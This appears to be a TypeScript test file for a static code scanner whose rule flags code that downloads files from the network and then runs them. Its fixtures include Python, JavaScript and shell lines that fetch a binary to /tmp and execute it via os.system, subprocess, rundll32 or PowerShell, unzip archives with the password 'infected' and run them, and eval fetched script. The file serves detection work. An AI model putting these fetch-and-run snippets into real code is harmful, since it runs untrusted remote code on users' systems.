import { describe, expect, it } from 'vitest';
import { testBuild } from '../../test-build.ts';
import { scan } from '../../scan.ts';
import { remoteCode } from './remote-code.ts';
import { arrivedFiles, lockedStartOf, startOf } from '../../evidence/arrived-files.ts';

const FETCH =
  'import os, subprocess, requests\nopen("/tmp/update.bin", "wb").write(requests.get("http://a.io").content)\n';

function starts(files: Record<string, string>): string[] {
  const build = testBuild(files);
  return arrivedFiles(build).flatMap((file) => {
    const start = startOf(build, file) ?? lockedStartOf(build, file);
    return start === undefined ? [] : [start.path];
  });
}

describe('startOf()', () => {
  it.each([
    'os.startfile("/tmp/update.bin")',
    'os.system("chmod +x /tmp/update.bin; /tmp/update.bin")',
    'def go():\n    subprocess.Popen(["/tmp/update.bin"])',
    'subprocess.run(["rundll32", "C:\\\\t\\\\update.bin,Run"])',
    'subprocess.run(["powershell", "-c", "Start-Process update.bin"])',
  ])('in the same file: %s', (code) => {
    expect(starts({ 'a.py': FETCH + code })).toEqual(['a.py']);
  });

  it.each([
    ['b.py', 'import os\nos.system("/tmp/update.bin &")'],
    ['b.js', "require('child_process').spawn('/tmp/update.bin')"],
    ['run.sh', 'chmod +x /tmp/update.bin\n'],
    ['package.json', '{"scripts":{"start":"python3 a.py && /tmp/update.bin"}}'],
  ])('in another file: %s', (path, code) => {
    expect(starts({ 'a.py': FETCH, [path]: code })).toEqual([path]);
  });

  it.each([
    'open("/tmp/update.bin").read()',
    'subprocess.run(["tar", "xf", "/tmp/update.bin"])',
    'os.system("sha256sum /tmp/update.bin")',
  ])('not: %s', (code) => {
    expect(starts({ 'a.py': FETCH + code })).toEqual([]);
  });

  it('is none in text for readers', () => {
    expect(starts({ 'a.py': FETCH, 'README.md': '```sh\n/tmp/update.bin\n```\n' })).toEqual([]);
  });
});

describe('lockedStartOf()', () => {
  const zip = FETCH.replace('update.bin', 'a.zip');

  it.each([
    'zipfile.ZipFile("/tmp/a.zip").extractall("/tmp/d", pwd=b"infected")\nsubprocess.Popen([path])',
    'os.system("unzip -P infected /tmp/a.zip")\nos.startfile(path)',
    'subprocess.run(["7z", "x", "-pinfected", "/tmp/a.zip"])\nos.system(path)',
  ])('%s', (code) => {
    expect(starts({ 'a.py': `import zipfile\n${zip}${code}` })).toEqual(['a.py']);
  });

  it.each([
    'zipfile.ZipFile("/tmp/a.zip").extractall("/tmp/d")\nsubprocess.Popen([path])',
    'zipfile.ZipFile("/tmp/a.zip").extractall("/tmp/d", pwd=b"infected")',
  ])('not: %s', (code) => {
    expect(starts({ 'a.py': `import zipfile\n${zip}${code}` })).toEqual([]);
  });
});

describe('arrivedFiles()', () => {
  it.each([
    [
      'a.py',
      'import requests\nopen("/tmp/x.exe", "wb").write(requests.get("http://a.io").content)',
    ],
    ['a.py', 'from urllib.request import urlretrieve\nurlretrieve("http://a.io", "/tmp/x.exe")'],
    ['a.py', 'import os\nos.system("curl -o /tmp/x.exe http://a.io")'],
    ['a.js', "require('child_process').execSync('curl -o /tmp/x.exe http://a.io')"],
  ])('%s: %s', (path, code) => {
    const [file] = arrivedFiles(testBuild({ [path]: code }));
    expect(file).toMatchObject({ path, names: ['x.exe'] });
    expect(file?.sends.map(({ operand }) => operand.texts[0])).toEqual(['http://a.io']);
  });

  it('finds the request in another file', () => {
    const build = testBuild({
      'a.py': 'import requests\ndef get():\n    return requests.get("http://a.io").content\n',
      'b.py': 'from a import get\nopen("/tmp/x.exe", "wb").write(get())\n',
    });
    expect(arrivedFiles(build)).toMatchObject([{ path: 'b.py', sends: [{ path: 'a.py' }] }]);
  });

  it.each(['open("a", "w").write("b")', 'import os\nos.system("curl http://a.io")'])(
    '%j: none',
    (code) => {
      expect(arrivedFiles(testBuild({ 'a.py': code }))).toEqual([]);
    },
  );

  it('leaves out unknown and very short names', () => {
    const code = 'import requests\nopen(path, "wb").write(requests.get("http://a.io").content)';
    expect(arrivedFiles(testBuild({ 'a.py': code }))).toMatchObject([{ names: [] }]);
  });
});

describe('remoteCode', () => {
  const EVAL =
    'const text = await (await fetch(`https://unpkg.com/a@${v}/all.js`)).text();\neval(`x = ${text}`);';
  const download = (check: string): string => `import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
const data = Buffer.from(await (await fetch('https://get.tunnel-maker.io/tool.exe')).arrayBuffer());
const digest = createHash('sha256').update(data).digest('hex');
${check}
writeFileSync('tool.exe', data);
execFileSync('tool.exe', ['--version']);`;
  const OWN = '{"repository":"github.com/tunnel-maker/tool"}';

  it.each([
    ['a script for maintainers', { 'tools/a.mts': EVAL }, 'warn'],
    ['other code', { 'src/a.mts': EVAL }, 'error'],
    ['a download', { 'a.mjs': download('') }, 'error'],
    ['one with a digest', { 'a.mjs': download('if (digest !== known) throw digest;') }, 'warn'],
    ['one of the own host', { 'a.mjs': download(''), 'package.json': OWN }, 'warn'],
  ])('judges %s', (_, files, level) => {
    const found = scan(testBuild(files as Record<string, string>), [remoteCode]);
    expect(found.map((one) => one.level)).toEqual([level]);
  });
});
